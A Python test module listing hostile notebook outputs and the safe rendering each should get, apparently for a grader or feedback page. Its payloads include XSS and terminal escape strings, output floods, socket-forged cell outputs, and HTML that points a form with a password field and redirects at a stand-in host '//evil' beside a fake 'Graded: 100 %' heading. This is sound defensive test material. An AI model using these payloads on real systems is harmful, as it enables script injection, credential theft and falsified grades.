"""What is shown: script, control signs, and more of it than anybody can read."""

from .kinds import Attack, Wider

ATTACKS = {
    "nul_bytes": Attack(
        "print and answer NUL bytes",
        "none on any page",
        "print('a\\0b')\ndef squares(n): return '\\0'",
    ),
    "script_in_output": Attack(
        "put script, frames, styles, SVG and terminal codes into outputs",
        "words, and nothing that runs",
        """
from IPython.display import HTML, Javascript, display, SVG
display(HTML('<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><style>*{}</style><iframe src="//evil">'))
display(Javascript('alert(1)'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
print('\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07 \\x1b[31mred')
""",
    ),
    "ten_megabytes": Attack(
        "print ten megabytes",
        "the page is cut, and says so",
        "print('x' * 10_000_000)",
    ),
    "many_outputs": Attack(
        "show twenty thousand outputs",
        "the page is cut, and says so",
        "from IPython.display import display\nfor i in range(20_000): display(i)",
    ),
    "error_text": Attack(
        "raise an error with script and a megabyte of text",
        "a short line, as text",
        "raise Exception('<script>alert(2)</script>' + 'y' * 1_000_000)",
    ),
}

WIDER = {
    "many_tracebacks": Wider(
        "fill the feedback page with thousands of long tracebacks",
        "the page is cut",
        "ip = get_ipython()\nfor _ in range(400): ip._showtraceback(Exception, Exception('y' * 4000), ['<\"' * 1000] * 40)",
    ),
    "forge_outputs": Wider(
        "send the outputs of its own cell in place of the interpreter: half a gigabyte once escaped",
        "the page is cut, and cells that come after are not reached",
        """
import gc, json, socket, struct
out = [{'output_type': 'stream', 'name': 'stdout', 'text': '"' * 20_000}] * 1000
content = json.dumps({'cell': 1, 'outputs': out, 'count': 1}).encode()
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        try: thing.sendall(struct.pack('!I', len(content)) + content)
        except OSError: pass
""",
        earns=(0.0, 4.0),
    ),
    "outputs_of_every_kind": Wider(
        "send outputs of kinds and shapes that no kernel sends",
        "text, or nothing",
        """
ip = get_ipython()
for data in ({'text/html': ['<script>', 1]}, {'image/png': {'a': 1}}, {'image/svg+xml': '<svg onload=alert(1)>'},
             {'application/javascript': 'alert(1)'}, {'text/latex': '$$\\\\href{javascript:go(1)}{x}$$'},
             {'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, {1: 2}, {'text/plain': '\\x1b[2J\\x00'}):
    ip.outputs.append({'output_type': 'display_data', 'data': data})
for odd in ({'output_type': 'stream', 'text': None}, {'output_type': 'error', 'traceback': 5}, {'output_type': 'x'}, {}, 7, None):
    ip.outputs.append(odd)
ip.outputs.append({'output_type': 'stream', 'name': 'odd', 'text': 'still here'})
""",
        shows="still here",
        never="alert(1)",
    ),
    "page_in_an_output": Wider(
        "send a page that loads another, asks for a password, refreshes itself, and restyles the rest",
        "its words, without what they would do",
        """
from IPython.display import HTML, display
display(HTML('<base href=//evil><meta http-equiv=refresh content="0;url=//evil"><form action=//evil><input name=p></form>'
  '<object data=//evil></object><link rel=stylesheet href=//evil><a href="data:text/html,<script>x</script>">d</a>'
  '<img src=//evil/x.png><svg><script>1</script></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'
  '</main></body><h1>Graded: 100 %</h1>'))
def squares(n): return 0
""",
        never="//evil",
    ),
    "script_in_a_written_answer": Wider(
        "write scripts, frames, pictures and links that run into a text that a person will read",
        "its words",
        """
<script>alert(1)</script> <img src=//evil/x.png> ![x](//evil/y.png) [x](javascript:alert(1)) <a href=javascript:alert(1)>x</a>
[y](data:text/html;base64,PHNjcmlwdD4=) <iframe src=//evil></iframe> <style>*{display:none}</style>
""",
        into="why",
        never="<script",
    ),
    "long_lines_and_many_cells": Wider(
        "make the shell itself slow: a line of a million characters",
        "a syntax like any other",
        "x = '" + "a" * 300_000 + "'\ndef squares(n): return x",
    ),
}
